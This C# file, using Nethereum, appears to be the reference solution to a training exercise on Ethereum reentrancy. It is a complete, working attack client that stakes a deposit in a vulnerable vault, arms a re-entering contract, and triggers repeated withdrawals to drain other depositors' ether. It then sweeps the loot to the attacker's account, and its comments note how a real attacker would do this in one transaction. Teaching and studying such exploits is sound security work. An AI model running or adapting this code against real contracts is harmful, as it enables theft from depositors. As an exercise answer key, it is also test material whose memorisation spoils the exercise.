using System.Numerics;
using Nethereum.ABI.FunctionEncoding;
using Nethereum.ABI.FunctionEncoding.Attributes;
using Nethereum.Contracts;
using Nethereum.Contracts.ContractHandlers;
using Nethereum.JsonRpc.Client;
using Nethereum.RPC.Eth.DTOs;
using Nethereum.Web3;

namespace Koans.Ethereum.Reentrancy;

/// <summary>A step of the attack that the node refused: at its gas estimate, or mined with status 0.</summary>
public sealed class AttackRevertedException(string message, Exception? innerException = null)
    : InvalidOperationException(message, innerException);

/// <summary>What a drain took: the wei taken beyond the attacker's own stake, the re-entries, and every transaction sent, in order.</summary>
public sealed record DrainReport(BigInteger Stolen, int Reentries, IReadOnlyList<TransactionReceipt> Transactions);

/// <summary>Reference solution for ethereum.reentrancy.</summary>
public sealed class ReentrancyAttack(IWeb3 web3, string reenterer)
{
    /// <summary>The most re-entries one drain plans.</summary>
    public const int MaxReentries = 50;

    public IWeb3 Web3 { get; } = web3;

    public string Reenterer { get; } = reenterer;

    public static int ReentriesFor(BigInteger vaultBalance, BigInteger stake)
    {
        ArgumentOutOfRangeException.ThrowIfNegative(vaultBalance);
        ArgumentOutOfRangeException.ThrowIfNegativeOrZero(stake);
        // The attacker's deposit makes the vault hold vaultBalance + stake, and pays for the first, honest withdrawal.
        // Each re-entry takes one more stake out of the victims' vaultBalance: floor(vaultBalance / stake) of them.
        // One more (counting the stake twice) and the last transfer fails, reverting the whole transaction.
        var reentries = BigInteger.Divide(vaultBalance, stake);
        if (reentries > MaxReentries)
        {
            throw new ArgumentOutOfRangeException(nameof(stake), stake,
                $"Draining {vaultBalance} wei in stakes of {stake} needs {reentries} re-entries; at most {MaxReentries} fit one transaction's call stack and gas. Stake more.");
        }

        return (int)reentries;
    }

    public async Task<DrainReport> DrainAsync(string vault, BigInteger stake, CancellationToken cancellationToken = default)
    {
        ArgumentException.ThrowIfNullOrWhiteSpace(vault);
        ArgumentOutOfRangeException.ThrowIfNegativeOrZero(stake);

        // The plan is fixed by the vault's balance now. A real attacker does every step below in one transaction
        // (an attack contract's constructor) so nobody can move the balance in between; the steps are separate here
        // so each one is a receipt you can read.
        var vaultBalance = (await Web3.Eth.GetBalance.SendRequestAsync(vault).ConfigureAwait(false)).Value;
        var reentries = ReentriesFor(vaultBalance, stake);

        var handler = Web3.Eth.GetContractHandler(Reenterer);
        var withdraw = new WithdrawFunction().GetCallData();
        var heldBefore = await BalanceAsync(Reenterer).ConfigureAwait(false);
        var receipts = new List<TransactionReceipt>();

        // 1. Become a depositor: withdraw() pays only an address with a balance, and pays it its balance each time.
        receipts.Add(await SendAsync(handler, "the deposit", new RunFunction { Target = vault, Data = new DepositFunction().GetCallData(), AmountToSend = stake }, cancellationToken).ConfigureAwait(false));

        // 2. Arm before withdrawing: the re-entry happens inside the vault's ether transfer, in the Reenterer's receive().
        receipts.Add(await SendAsync(handler, "arming the Reenterer", new ArmFunction { Target = vault, Data = withdraw, Times = reentries }, cancellationToken).ConfigureAwait(false));

        // 3. One withdraw() from outside; the vault's own transfers call back in `reentries` times.
        receipts.Add(await SendAsync(handler, "the withdrawal", new RunFunction { Target = vault, Data = withdraw }, cancellationToken).ConfigureAwait(false));

        var loot = await BalanceAsync(Reenterer).ConfigureAwait(false) - heldBefore;

        // 4. The ether is in the contract; the attacker wants it in an account it signs for.
        receipts.Add(await SendAsync(handler, "the sweep", new SweepFunction { To = Web3.TransactionManager.Account.Address }, cancellationToken).ConfigureAwait(false));

        return new DrainReport(loot - stake, reentries, receipts);
    }

    private async Task<BigInteger> BalanceAsync(string address) =>
        (await Web3.Eth.GetBalance.SendRequestAsync(address).ConfigureAwait(false)).Value;

    // The handler estimates gas first: a step that would revert fails there, before it is signed. A transaction that
    // is mined anyway (a state change in between) is checked by its status: a receipt is not a success.
    private static async Task<TransactionReceipt> SendAsync<TFunction>(ContractHandler handler, string step, TFunction call, CancellationToken cancellationToken)
        where TFunction : FunctionMessage, new()
    {
        TransactionReceipt receipt;
        try
        {
            receipt = await handler.SendRequestAndWaitForReceiptAsync(call, cancellationToken).ConfigureAwait(false);
        }
        catch (Exception e) when (e is SmartContractRevertException or SmartContractCustomErrorRevertException or RpcResponseException)
        {
            throw new AttackRevertedException($"The node refused {step}: {e.Message}", e);
        }

        if (receipt.Status?.Value != BigInteger.One)
        {
            throw new AttackRevertedException($"{step} was mined in block {receipt.BlockNumber?.Value} with status 0 (reverted): transaction {receipt.TransactionHash}.");
        }

        return receipt;
    }

    [Function("deposit")]
    private sealed class DepositFunction : FunctionMessage;

    [Function("withdraw")]
    private sealed class WithdrawFunction : FunctionMessage;

    [Function("arm")]
    private sealed class ArmFunction : FunctionMessage
    {
        [Parameter("address", "target_", 1)]
        public string Target { get; set; } = "";

        [Parameter("bytes", "data", 2)]
        public byte[] Data { get; set; } = [];

        [Parameter("uint256", "times", 3)]
        public BigInteger Times { get; set; }
    }

    [Function("run", "bytes")]
    private sealed class RunFunction : FunctionMessage
    {
        [Parameter("address", "target_", 1)]
        public string Target { get; set; } = "";

        [Parameter("bytes", "data", 2)]
        public byte[] Data { get; set; } = [];
    }

    [Function("sweep")]
    private sealed class SweepFunction : FunctionMessage
    {
        [Parameter("address", "to", 1)]
        public string To { get; set; } = "";
    }
}
